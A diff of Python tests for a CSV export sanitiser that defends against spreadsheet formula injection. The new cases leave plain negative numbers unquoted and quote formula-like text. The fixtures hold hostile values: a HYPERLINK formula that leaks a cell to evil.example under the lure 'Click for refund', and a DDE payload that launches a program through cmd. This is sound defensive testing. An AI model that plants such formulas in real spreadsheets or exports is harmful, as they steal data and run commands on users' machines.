@@ -37,6 +37,19 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'
         ("'quoted", "'quoted"),
         ("", ""),
         (" =spaced", " =spaced"),
+        # A plain number is not a formula: left as it is, also when it is text.
+        ("-15.00", "-15.00"),
+        ("+15", "+15"),
+        ("-1.5e3", "-1.5e3"),
+        ("'-15.00", "''-15.00"),
+        # Anything more than a plain number still gets the quote.
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("-1+1", "'-1+1"),
+        ("+1-2", "'+1-2"),
+        ("-2E3+A1", "'-2E3+A1"),
+        ("-15.00 ", "'-15.00 "),
+        ("-", "'-"),
+        ("-.5", "'-.5"),
     ],
 )
 def test_neutralise_prefixes_dangerous_text_and_restore_undoes_it(value, expected):
@@ -49,7 +62,12 @@ def test_numbers_stay_numbers():
     assert neutralise(Decimal("-5.00")) == Decimal("-5.00")
     assert cell(Decimal("-5.00")) == "-5.00"
     assert cell(-3) == "-3"
-    assert cell("-3") == "'-3"
+    assert cell("-3") == "-3"  # text holding a plain number: not a formula
+    assert cell("-3*7") == "'-3*7"
+
+
+def test_a_quoted_number_of_an_older_export_reads_back_as_the_number():
+    assert restore("'-15.00") == "-15.00"
 
 
 def _rows(text: str) -> list[dict[str, str]]:
@@ -91,6 +109,28 @@ def test_rejects_file_is_inert(db, users, tmp_path: Path):
     )
     row = _rows(rejects.read_text("utf-8-sig"))[0]
     assert row["name"] == "'" + EVIL
+
+
+def test_rejects_file_keeps_negative_numbers_and_quotes_formulas(db, users, tmp_path: Path):
+    data = (
+        "external_id,name,category,unit_price,unit_cost\n"
+        "N1,Neg,-1+1,-15.00,1.00\n"
+        "N2,@SUM(A1),=cmd|' /C calc'!A0,-3.50,1.00\n"
+    )
+    rejects = tmp_path / "p.rejects.csv"
+    service.import_file(
+        db,
+        "products",
+        data.encode(),
+        name="p.csv",
+        actor=users["admin"],
+        skip_invalid=True,
+        rejects_path=rejects,
+    )
+    rows = _rows(rejects.read_text("utf-8-sig"))
+    assert [r["unit_price"] for r in rows] == ["-15.00", "-3.50"]
+    assert [r["category"] for r in rows] == ["'-1+1", "'=cmd|' /C calc'!A0"]
+    assert rows[1]["name"] == "'@SUM(A1)"
 
 
 def test_complaint_exports_are_inert(db, users, client, tmp_path: Path):
